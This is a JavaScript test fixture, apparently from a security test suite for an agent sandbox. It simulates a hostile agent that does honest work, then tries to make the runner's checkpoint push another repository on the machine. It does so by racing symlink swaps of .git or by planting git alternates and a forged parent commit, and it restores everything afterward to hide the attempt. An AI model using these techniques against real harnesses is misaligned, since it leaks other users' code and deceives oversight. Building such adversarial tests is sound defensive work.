// Family 8, checkpoints: the runner reads this agent's repository while it runs. It commits
// honest work, waits for that to be checkpointed, then, for a window of several checkpoint
// intervals, tries to have a checkpoint push another repository of this machine
// (config.extra.foreign: its .git, its objects folder and a commit of it):
//   git-link    flips .git between its own folder and a link to the other repository's, as
//               fast as it can, so that some checkpoint looks while it is a link, or between
//               the runner's checks and its reads
//   alternates  adds the other repository's objects to its alternates and moves its branch to a
//               commit whose parent is the other repository's commit
// Then it puts everything back and exits 0, so the run ends with its honest work.
import { readFileSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { begin, config, git, honestWork, loot, say, tryEscape } from "./lib.mjs";

const { mode, foreign, settleMs, windowMs } = config.extra;
const pause = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);

await begin("checkpoint");
honestWork("checkpoint");
const honest = git("rev-parse", "HEAD").trim();
const branch = git("symbolic-ref", "HEAD").trim();
say(`checkpoint agent committed ${honest}; waiting for a checkpoint`);
pause(settleMs);
const results = { mode, honest, flips: 0 };
if (mode === "git-link") {
  symlinkSync(foreign.gitDir, ".git-link");
  const end = Date.now() + windowMs;
  while (Date.now() < end) {
    renameSync(".git", ".git-real");
    renameSync(".git-link", ".git");
    pause(3);
    renameSync(".git", ".git-link");
    renameSync(".git-real", ".git");
    pause(1);
    results.flips++;
  }
  unlinkSync(".git-link");
} else if (mode === "alternates") {
  const alternates = ".git/objects/info/alternates";
  const own = readFileSync(alternates, "utf8");
  writeFileSync(alternates, `${own}${foreign.objects}\n`);
  const tree = git("rev-parse", "HEAD^{tree}").trim();
  const body = `tree ${tree}\nparent ${foreign.commit}\nauthor A <a@example.com> 0 +0000\ncommitter A <a@example.com> 0 +0000\n\nstolen\n`;
  writeFileSync(".git/stolen-commit", body);
  const stolen = git(
    "hash-object",
    "-t",
    "commit",
    "-w",
    "--literally",
    ".git/stolen-commit",
  ).trim();
  unlinkSync(".git/stolen-commit");
  git("update-ref", branch, stolen);
  results.stolen = stolen;
  pause(windowMs);
  git("update-ref", branch, honest);
  writeFileSync(alternates, own);
} else {
  throw new Error(`unknown mode ${mode}`);
}
await loot("checkpoint.json", results);
say(`checkpoint attack ${mode} done`);
await tryEscape();
